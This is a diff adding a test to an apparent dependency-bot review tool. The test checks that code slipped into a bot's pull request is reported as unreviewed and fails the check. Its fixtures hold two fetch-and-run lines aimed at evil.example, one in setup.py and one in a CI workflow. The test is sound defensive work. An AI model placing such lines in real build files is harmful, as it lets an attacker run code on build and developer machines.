@@ -110,3 +110,16 @@ async def test_a_repository_may_have_them_left_alone(world: World, llm: LLMServe
     await opened(world, {}, "dependabot[bot]", "dependency_bots: []\n")
     assert world.reviews == []
     assert world.check_runs[-1].conclusion == "skipped"
+
+
+async def test_code_in_a_manifest_is_not_called_reviewed(world: World) -> None:
+    code: dict[str, str | None] = {
+        "setup.py": "exec(urlopen('https://evil.example').read())\n",
+        ".github/workflows/ci.yml": "steps:\n- run: curl https://evil.example | sh\n",
+    }
+    await opened(world, code, "dependabot[bot]", "fail_incomplete: true\n")
+    [review] = world.reviews
+    files = "`.github/workflows/ci.yml`, `setup.py`"
+    assert f"It also changes {files}, which was not reviewed." in review.body
+    report = await report_of(world)
+    assert (report.complete, report.conclusion) == (False, "failure")
